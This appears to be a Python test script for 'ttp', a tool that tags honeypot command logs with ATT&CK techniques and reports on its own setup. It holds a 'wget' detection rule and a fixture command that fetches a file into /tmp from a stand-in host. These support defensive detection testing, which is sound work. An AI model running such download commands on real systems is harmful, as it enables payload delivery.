# SPDX-License-Identifier: Apache-2.0
"""ttp explain agrees with ttp tag and says where; ttp doctor says what there is and what is missing."""
import json
import os
import re

from harness import FEATURES, MARK_RULE, PACK, ROOT, Place, check, command, event, finish, lines, same, ttp, wrong

EXAMPLE = os.path.join(ROOT, "examples/cowrie-example.json")
BOTH = """\
rule_id: B1
rule_version: 1
name: both
applies_to: [command]
match: {all: [{contains: wget}, {not: {field: user, equals: root}}]}
emits: [{tactic: TA0011, technique_id: T1105, confidence: 0.9}]
"""


def check_explain_agrees():
    told = ttp("explain", "--rules", PACK, "--output", "json", "--all", EXAMPLE)
    tags = ttp("tag", "--rules", PACK, "--output", "jsonl", EXAMPLE)
    fired = {(o["event"]["source_id"], r["rule_id"]) for o in told.objects() for r in o["rules"] if r["fired"]}
    check("the rules that explain says fired on the example are those that tagged it",
          wrong(told, status=0), same("rules by event", fired - {None}, {(t["source_id"], t["rule_id"]) for t in tags.objects()}))
    problems = []
    for o in told.objects():
        for leaf in (leaf for r in o["rules"] for leaf in r["leaves"]):
            if set(leaf) - {"cut"} != {"leaf", "held", "field", "start", "end"}:
                problems.append(str(leaf))
    check("each leaf has leaf, held, field, start and end", *problems[:3])


def check_spans():
    text = "cd /tmp; söss wget http://192.0.2.1/a"
    with Place(log=lines(event(text, payload={"command_text": text, "user": "www"}))) as here:
        here.write("rules/B1_both.yaml", BOTH)
        done = here.ttp("explain", "--rules", "rules", "--output", "json", "--all", "log")
        rules = {r["rule_id"]: r for r in done.objects()[0]["rules"]}
        leaf = rules["B1"]["leaves"][0]
        check("a leaf that holds names its field and the bytes it holds at",
              wrong(done, status=0), same("fired", [rules["B1"]["fired"], rules["M1"]["fired"]], [True, False]),
              same("text there", text.encode()[leaf["start"]:leaf["end"]], b"wget"), same("field", leaf["field"], "command_text"))
        text_form = here.ttp("explain", "--rules", "rules", "log")
        check("as text: the event, the rule, the leaf and the bytes",
              wrong(text_form, status=0, out=[r"^command cmd_1: cd /tmp", r"^  FIRED B1 ", rf"at bytes {leaf['start']} to {leaf['end']}$"],
                    no_out=["M1"]))
        every = here.ttp("explain", "--rules", "rules", "--all", "log")
        one = here.ttp("explain", "--rules", "rules", "--rule", "M1", "log")
        check("--all shows rules of which no leaf held, --rule one alone",
              wrong(every, status=0, out=["B1", "M1"]) or wrong(one, status=0, out=["M1"], no_out=["B1"]))
        here.write("bad", lines(event("wget"), b"{", event("wget", 2)))
        bad = here.ttp("explain", "--rules", "rules", "bad", "nowhere")
        check("bad input is named with file and line, the rest explained; exit status 3",
              wrong(bad, status=3, out=["cmd_1", "cmd_2"], err=[r"^ttp: bad:2: ", r"^ttp: nowhere: "]))


def check_doctor():
    done = ttp("doctor", "--rules", PACK)
    check("doctor: versions, CPU, catalogue and rules, all well; exit status 0",
          wrong(done, status=0, out=[rf"^ok +{name} " for name in ("ttp", "machine", "scan path", "PCRE2", "libfyaml", "SQLite", "simdjson",
                                                                   "zlib", "zstd", "libcurl", "ATT&CK", "rules")],
                no_out=["^FAIL"]))
    for feature, name in (("zlib", "zlib"), ("zstd", "zstd"), ("curl", "libcurl")):
        check(f"doctor: says rightly whether this build has {name}",
              same("built without", bool(re.search(rf"^ok +{name} +built without", done.out, re.M)), feature not in FEATURES))
    found = ttp("doctor", "--output", "json", "--rules", PACK)
    names = [f["name"] for f in json.loads(found.out)]
    check("doctor --output json: the same as one list", wrong(found, status=0),
          same("findings", len(names), len(re.findall(r"^ok ", done.out, re.M))),
          *[f"{n} is not in the text" for n in names if not re.search(rf"^ok +{re.escape(n)} ", done.out, re.M)])
    with Place() as here:
        here.write("rules/N1_bad.yaml", "a: [")
        os.mkdir(here.path("empty"))
        rows = [("a rule that is refused", ["--rules", "rules"], {}, r"^FAIL rules"),
                ("a directory without rules", ["--rules", "empty"], {}, r"^FAIL rules"),
                ("no such directory", ["--rules", "nowhere"], {}, r"^FAIL rules"),
                ("a bundle that cannot be read", ["--rules", PACK], {"DECNET_TTP_ATTACK_BUNDLE": "/nowhere"}, r"^FAIL ATT&CK"),
                ("a scan path that no CPU has", ["--rules", PACK], {"TTP_SCAN_PATH": "mmx"}, r"^FAIL scan path")]
        for says, words, env, line in rows:
            done = here.ttp("doctor", *words, env=env)
            check(f"doctor: {says} is a problem, with what to do; exit status 1",
                  wrong(done, status=1, out=[line + r".*\n {5}"]))


check_explain_agrees()
check_spans()
check_doctor()
finish()
